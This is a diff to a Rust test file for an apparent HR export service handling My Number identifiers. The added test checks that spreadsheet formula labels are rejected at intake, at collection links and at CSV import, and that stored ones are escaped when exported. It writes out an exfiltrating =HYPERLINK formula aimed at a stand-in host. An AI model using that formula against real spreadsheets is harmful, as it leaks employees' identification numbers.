@@ -281,14 +281,15 @@ async fn an_export_names_employees_or_all_and_an_admin_may_approve_it() {
             "{body}"
         );
     }
-    // A selection without a record stating the purpose is a valid request refused.
+    // A selection without a record stating the purpose is a valid request that meets a state
+    // it cannot serve: 409, as a stock contract fuzzer expects of valid data.
     for body in [
         json!({"purpose": "payment_record", "all": true}),
         json!({"purpose": "withholding_tax", "employee_ids": ["E9"]}),
     ] {
         assert_problem(
             &request_export(&stack, &requester(), body).await,
-            422,
+            409,
             "no_records",
         );
     }
@@ -397,4 +398,102 @@ async fn a_failed_trail_write_produces_no_file_and_spends_no_download() {
     assert_eq!(file.status, 200, "{}", file.raw);
     assert_eq!(trail_of(&stack, &id).await.len(), 3);
     stack.assert_no_plaintext(ALL_NUMBERS).await;
+}
+
+/// A dependant named as a spreadsheet formula (`=HYPERLINK(…&CONCAT(D:D))` would mail every
+/// number of the file away once HR opens it) is refused wherever a label comes in — intake,
+/// a collection link, an import row — and a label stored before that rule reaches the
+/// downloaded file as text.
+#[tokio::test]
+async fn a_label_a_spreadsheet_would_run_is_refused_at_every_input_and_text_in_the_file() {
+    let stack = Stack::new().await;
+    let hr = Who::registrar("acme");
+    // Within the label's 40 characters: D2 is the number's column.
+    let formula = r#"=HYPERLINK("http://x.jp/"&D2,"x")"#;
+    let r = register(&stack, &hr, dependent("E1", formula, N2)).await;
+    assert_problem(&r, 400, "invalid_request");
+    assert_eq!(
+        r.field_errors(),
+        vec![("dependent_label".to_owned(), "formula".to_owned())]
+    );
+    for label in ["+81", "-1", "@SUM(A1)", " =1"] {
+        let r = register(&stack, &hr, dependent("E1", label, N2)).await;
+        assert_eq!(
+            r.field_errors(),
+            vec![("dependent_label".into(), "formula".into())]
+        );
+    }
+
+    let (_, token) = super::collections::open_link(&stack, "E5", true).await;
+    let r = super::collections::submit(
+        &stack,
+        &token,
+        json!({"self": super::collections::own(N4),
+               "dependents": [{"label": formula, "my_number": N5}]}),
+    )
+    .await;
+    assert_eq!(r.status, 400, "{}", r.raw);
+    assert_eq!(
+        r.field_errors(),
+        vec![("dependents[0].label".to_owned(), "formula".to_owned())]
+    );
+
+    let csv = format!(
+        "employee_id,relation,dependent_label,my_number,purposes,number_check,identity_check,verified_on\n\
+         E6,dependent,\"{}\",{N5},withholding_tax,notification_card,by_employee,2026-04-01\n",
+        formula.replace('"', "\"\"")
+    );
+    let r = stack
+        .call(
+            req("POST", "/v1/imports")
+                .who(&hr)
+                .header("content-type", "text/csv")
+                .raw_body(&csv)
+                .build(),
+        )
+        .await;
+    assert_eq!(r.status, 200, "{}", r.raw);
+    let row = &r.body["rows"][0];
+    assert_eq!(row["status"], "failed", "{}", r.raw);
+    assert_eq!(row["errors"][0]["field"], "dependent_label", "{}", r.raw);
+    assert_eq!(row["errors"][0]["rule"], "formula", "{}", r.raw);
+
+    // A label kept from before the rule: the export's file holds it as text.
+    let child = register(&stack, &hr, dependent("E1", "長男", N2)).await;
+    assert_eq!(child.status, 201, "{}", child.raw);
+    let item = stack
+        .items_of_kind("record")
+        .await
+        .into_iter()
+        .find(|i| i["record_id"].as_s().unwrap() == child.body["record_id"].as_str().unwrap())
+        .unwrap();
+    stack
+        .ddb()
+        .update_item()
+        .table_name(&stack.table)
+        .key("pk", item["pk"].clone())
+        .key("sk", item["sk"].clone())
+        .update_expression("SET dependent_label = :f")
+        .expression_attribute_values(
+            ":f",
+            aws_sdk_dynamodb::types::AttributeValue::S(formula.into()),
+        )
+        .send()
+        .await
+        .unwrap();
+    let r = request_export(
+        &stack,
+        &requester(),
+        json!({"purpose": "withholding_tax", "employee_ids": ["E1"]}),
+    )
+    .await;
+    assert_eq!(r.status, 201, "{}", r.raw);
+    let id = r.body["export_id"].as_str().unwrap().to_owned();
+    assert_eq!(approve(&stack, &approver(), &id).await.status, 200);
+    let file = download(&stack, &requester(), &id).await;
+    assert_eq!(file.status, 200, "{}", file.raw);
+    let line = file.raw.lines().nth(1).unwrap().to_owned();
+    let as_text = format!(",\"'{}\",", formula.replace('"', "\"\""));
+    assert!(line.contains(&as_text), "{line} lacks {as_text}");
+    assert!(!file.raw.contains(",=HYPERLINK"));
 }
